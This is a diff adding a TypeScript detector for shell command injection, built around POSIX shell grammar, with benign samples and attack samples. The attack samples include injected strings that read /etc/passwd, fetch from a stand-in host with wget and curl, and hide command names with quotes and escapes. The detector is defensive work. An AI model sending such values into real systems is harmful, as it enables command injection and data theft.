@@ -1,0 +1,236 @@
+/**
+ * The family of shell commands: reads what follows each separator as a shell would, without quotes,
+ * escapes and empty expansions, and looks the command up. Source: POSIX.1-2017, XCU chapter 2.
+ */
+
+import type { ByteString } from '../../../base/byte-string.ts';
+import { SEEN } from '../bytes-seen.ts';
+import type { Detector, Family, Leaf, Report } from '../detector.ts';
+import { textKinds } from '../patterns.ts';
+import { ambiguousCommands, clearArgument, clearCommands } from './commands.table.ts';
+
+const source = 'POSIX.1-2017, XCU sections 2.2, 2.6 and 2.9';
+const shared = { family: 'shell', source, confirmedBy: [932] } as const;
+const ids = { separated: 198_200, substituted: 198_201, weak: 198_202, hidden: 198_203 } as const;
+
+const detectors: readonly Detector[] = [
+  {
+    ...shared,
+    id: ids.separated,
+    name: 'shell-command',
+    strong: true,
+    proves: 'adds a shell command after a separator',
+    examples: {
+      attacks: [
+        '8.8.8.8; cat /etc/passwd',
+        'x|whoami',
+        '1 && wget http://evil.example/x',
+        '127.0.0.1;/bin/ls -la',
+        'a\nuname -a',
+        '1|c"a"t /etc/hosts',
+        '; nslookup x.example',
+        '127.0.0.1;id',
+      ],
+      benign: [
+        'wait; find the best one',
+        'name;id;date',
+        '| id | name |',
+        'a & b; more or less',
+        'type; which is best; sleep well',
+        'Tom & Jerry',
+      ],
+    },
+  },
+  {
+    ...shared,
+    id: ids.substituted,
+    name: 'shell-substitution',
+    strong: true,
+    proves: 'substitutes the output of a shell command',
+    examples: {
+      attacks: ['$(whoami)', 'x$(cat /etc/hosts)y', '$(curl http://evil.example)', '<(ls -la)'],
+      benign: ['$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
+    },
+  },
+  {
+    ...shared,
+    id: ids.weak,
+    name: 'shell-word',
+    strong: false,
+    proves: 'holds what may be a shell command',
+    examples: {
+      attacks: ['`id`', '`ls -la`', 'x;id', 'fields|ls'],
+      benign: ['plain text', 'a; b; c', 'use `const`'],
+    },
+  },
+  {
+    ...shared,
+    id: ids.hidden,
+    name: 'shell-hidden-command',
+    strong: true,
+    proves: 'hides the name of a command by quotes or escapes',
+    examples: {
+      attacks: [";w'h'oami", '|c\\at /etc/passwd', ';wh$@oami', ';l""s'],
+      benign: ["a; it's", '; c:\\at', "'; 'who'"],
+    },
+  },
+];
+
+/** The family of shell commands. */
+export const shell: Family = {
+  name: 'shell',
+  needs: [
+    SEEN.semicolon,
+    SEEN.pipe,
+    SEEN.ampersand,
+    SEEN.backtick,
+    SEEN.lineEnd,
+    SEEN.dollar | SEEN.paren,
+    SEEN.less | SEEN.paren,
+  ],
+  kinds: textKinds,
+  detectors,
+  find: (leaf, report) => {
+    const { text } = leaf;
+    for (let at = 0; at < text.length; at++) {
+      const separator = separatorAt(text, at);
+      if (separator === 0) continue;
+      judge(leaf, at, separator, report);
+    }
+  },
+};
+
+const LIST = 1;
+const SUBSTITUTION = 2;
+const BACKTICK = 3;
+const LINE = 4;
+
+function separatorAt(text: ByteString, at: number): number {
+  switch (text.charCodeAt(at)) {
+    case 0x3b:
+    case 0x7c:
+    case 0x26:
+      return LIST;
+    case 0x0a:
+    case 0x0d:
+      return LINE;
+    case 0x60:
+      return BACKTICK;
+    case 0x28: {
+      const before = text.charCodeAt(at - 1);
+      return before === 0x24 || before === 0x3c || before === 0x3e ? SUBSTITUTION : 0;
+    }
+    default:
+      return 0;
+  }
+}
+
+/** The command that was read last. */
+let word = '';
+let wordEnd = 0;
+let hidden = false;
+let fullPath = false;
+
+const skipped = /[\s({!@]{0,16}(?:[A-Za-z_]\w{0,32}=[^\s;|&]{0,64}\s{1,8}){0,1}/y;
+const pathPattern = /(?:\/[\w.-]{1,16}){0,5}\/(?=[\w'"\\])|[a-z]:\\(?:[\w.-]{1,24}\\){0,6}/iy;
+const wordMax = 40;
+
+/** Reads the command at `from`, without quotes, escapes and expansions that give nothing. */
+function readCommand(text: ByteString, from: number): void {
+  skipped.lastIndex = from;
+  const begins = from + (skipped.exec(text)?.[0].length ?? 0);
+  pathPattern.lastIndex = begins;
+  const path = pathPattern.exec(text)?.[0].length ?? 0;
+  fullPath = path > 0;
+  let at = begins + path;
+  word = '';
+  hidden = false;
+  let marks = 0;
+  // A quote before the word and one after it hide nothing.
+  let begun = false;
+  for (; at < text.length && word.length < wordMax && marks < wordMax; at++) {
+    const char = text.charAt(at);
+    if (/[\w.-]/.test(char)) {
+      word += char;
+      if (marks > 0 && word.length > 1 && begun) hidden = true;
+      begun = true;
+    } else if (char === '$' && /[@*!]/.test(text.charAt(at + 1)) && word !== '') {
+      at++;
+      marks++;
+    } else if (/["'\\^]/.test(char) && /["'\\^\w]/.test(text.charAt(at + 1))) {
+      if (begun) marks++;
+    } else break;
+  }
+  if (word === '' || text.slice(begins + path, at).startsWith(word)) hidden = false;
+  wordEnd = at;
+  word = word.toLowerCase();
+}
+
+function judge(leaf: Leaf, at: number, separator: number, report: Report): void {
+  const { text } = leaf;
+  readCommand(text, at + 1);
+  const clear = clearCommands.has(word);
+  if (!clear && !ambiguousCommands.has(word)) return;
+  const after = text.charAt(wordEnd);
+  if (after !== '' && !/[\s;|&<>)`"'${,}#]/.test(after)) return;
+  const argument = argumentAt(text, wordEnd);
+  if (hidden && word.length > 1 && argument !== NOT_ONE) {
+    report.add(ids.hidden, at, wordEnd);
+    report.add(ids.separated, at, wordEnd);
+    return;
+  }
+  if (separator === BACKTICK) {
+    report.add(ids.weak, at, wordEnd);
+    return;
+  }
+  if (separator === SUBSTITUTION) {
+    if (word === 'id' && text.charAt(wordEnd + 1) === '.') return;
+    report.add(clear || argument === CLEAR ? ids.substituted : ids.weak, at - 1, wordEnd);
+    return;
+  }
+  const strong = isCommand(leaf, at, separator, clear, argument);
+  report.add(strong ? ids.separated : ids.weak, at, wordEnd);
+}
+
+const NOT_ONE = 0;
+const END = 1;
+const WORD = 2;
+const CLEAR = 3;
+
+const wordArgument = /[\s]{1,8}[\w]/y;
+const endArgument = /[\s]{0,8}(?:$|[;|&)`#"'])/y;
+
+/** What follows a command. */
+function argumentAt(text: ByteString, at: number): number {
+  clearArgument.lastIndex = at;
+  if (clearArgument.test(text)) return CLEAR;
+  endArgument.lastIndex = at;
+  if (endArgument.test(text)) return END;
+  wordArgument.lastIndex = at;
+  return wordArgument.test(text) ? WORD : NOT_ONE;
+}
+
+function isCommand(
+  leaf: Leaf,
+  at: number,
+  separator: number,
+  clear: boolean,
+  argument: number,
+): boolean {
+  if (argument === CLEAR) return separator !== LINE || (clear && isShort(leaf, at));
+  if (fullPath) return true;
+  if (argument === END) {
+    if (separator === LINE) return clear && isShort(leaf, at) && leaf.text.length < 64;
+    const before = /[^\s]?(?=[\s|&;]{0,4}$)/.exec(leaf.text.slice(Math.max(0, at - 6), at))?.[0];
+    const listed =
+      /[a-z_]/i.test(before ?? '') || / [|]/.test(leaf.text.slice(wordEnd, wordEnd + 3));
+    if (clear) return word.length > 3 || !listed;
+    return !listed && word === 'id';
+  }
+  return argument === WORD && clear && isShort(leaf, at);
+}
+
+/** Little stands before the separator, and it is no prose. */
+function isShort(leaf: Leaf, at: number): boolean {
+  return at < 64 && !/[a-z]{2,} [a-z]{2,}/i.test(leaf.text.slice(0, at));
+}
